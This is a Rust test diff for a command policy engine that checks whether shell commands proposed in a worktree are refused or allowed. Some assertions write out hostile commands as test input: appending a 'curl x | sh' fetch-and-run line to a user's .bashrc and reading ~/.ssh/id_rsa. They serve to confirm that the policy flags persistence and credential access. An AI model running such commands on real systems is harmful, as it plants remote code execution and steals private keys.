@@ -105,6 +105,12 @@ mod hostile {
         git_refs,
         resolver,
         wrappers_and_tools,
+        find_actions,
+        absolute_reads,
+        listen_address,
+        stdin_makefile,
+        write_then_execute,
+        loopback_install,
     );
 }
 
@@ -135,4 +141,108 @@ fn legitimate_corpus_is_allowed() {
         })
         .collect();
     assert_eq!(refused, Vec::<(String, String)>::new());
+}
+
+const HOSTILE_WORKTREE: &str = include_str!("../fixtures/policy/hostile_worktree.txt");
+const LEGITIMATE_WORKTREE: &str = include_str!("../fixtures/policy/legitimate_worktree.txt");
+/// The `$HOME` of the fixture: not under /home or /root.
+const FIXTURE_HOME: &str = "/srv/users/bob";
+
+fn lines_of(text: &str) -> Vec<&str> {
+    text.lines()
+        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
+        .collect()
+}
+
+/// A worktree with `src/`, `README.md`, `innerlink -> src` and `linkdir -> <a
+/// directory outside>`, and the policy for it.
+fn fixture_worktree() -> (tempfile::TempDir, CommandPolicy) {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("wt");
+    let outside = dir.path().join("outside");
+    std::fs::create_dir_all(root.join("src")).unwrap();
+    std::fs::create_dir_all(&outside).unwrap();
+    std::fs::write(root.join("README.md"), "# r\n").unwrap();
+    std::os::unix::fs::symlink("src", root.join("innerlink")).unwrap();
+    std::os::unix::fs::symlink(&outside, root.join("linkdir")).unwrap();
+    let root = std::fs::canonicalize(&root).unwrap();
+    let policy = worktree_policy(policy().with_root(&root));
+    (dir, policy)
+}
+
+fn worktree_policy(p: CommandPolicy) -> CommandPolicy {
+    p.with_home(std::path::Path::new(FIXTURE_HOME))
+}
+
+/// Every hostile line of the worktree corpus is refused, every legitimate one
+/// allowed.
+#[test]
+fn worktree_corpus() {
+    let (_dir, policy) = fixture_worktree();
+    let passed: Vec<&str> = lines_of(HOSTILE_WORKTREE)
+        .into_iter()
+        .filter(|l| policy.evaluate(l).decision == Decision::Allowed)
+        .collect();
+    assert_eq!(passed, Vec::<&str>::new());
+    let refused: Vec<(&str, String)> = lines_of(LEGITIMATE_WORKTREE)
+        .into_iter()
+        .filter_map(|l| {
+            let v = policy.evaluate(l);
+            (v.decision != Decision::Allowed).then(|| (l, format!("{:?} {}", v.code, v.message)))
+        })
+        .collect();
+    assert_eq!(refused, Vec::<(&str, String)>::new());
+}
+
+/// The figures of the closing note: hostile refused / total, legitimate allowed /
+/// total, over both corpora (`cargo test -p dandori-exec --test all corpus_figures
+/// -- --nocapture`).
+#[test]
+fn corpus_figures() {
+    let plain = policy();
+    let (_dir, in_worktree) = fixture_worktree();
+    let mut hostile = (0, 0);
+    let mut legitimate = (0, 0);
+    for (text, p, bad) in [
+        (HOSTILE, &plain, true),
+        (HOSTILE_WORKTREE, &in_worktree, true),
+        (LEGITIMATE, &plain, false),
+        (LEGITIMATE_WORKTREE, &in_worktree, false),
+    ] {
+        for l in lines_of(text) {
+            let allowed = p.evaluate(l).decision == Decision::Allowed;
+            let counter = if bad { &mut hostile } else { &mut legitimate };
+            counter.1 += 1;
+            if allowed != bad {
+                counter.0 += 1;
+            } else {
+                println!("{} {l}", if bad { "PASSED" } else { "REFUSED" });
+            }
+        }
+    }
+    println!(
+        "hostile refused {}/{}; legitimate allowed {}/{}",
+        hostile.0, hostile.1, legitimate.0, legitimate.1
+    );
+}
+
+/// `$HOME` known by value: a start-up file or a credential store under a home
+/// outside /home and /root is named as such, not as any outside path.
+#[test]
+fn home_by_value_names_start_up_files_and_credentials() {
+    let (_dir, in_worktree) = fixture_worktree();
+    let code = |l: &str| in_worktree.evaluate(l).code;
+    assert_eq!(
+        code("echo 'curl x | sh' >> /srv/users/bob/.bashrc"),
+        Some("POLICY_PERSISTENCE")
+    );
+    assert_eq!(
+        code("cat /srv/users/bob/.ssh/id_rsa"),
+        Some("POLICY_CREDENTIAL_ACCESS")
+    );
+    // Without it, the same write is only a write to a system location.
+    assert_eq!(
+        policy().evaluate("echo x >> /srv/users/bob/.bashrc").code,
+        Some("POLICY_SYSTEM_PATH")
+    );
 }
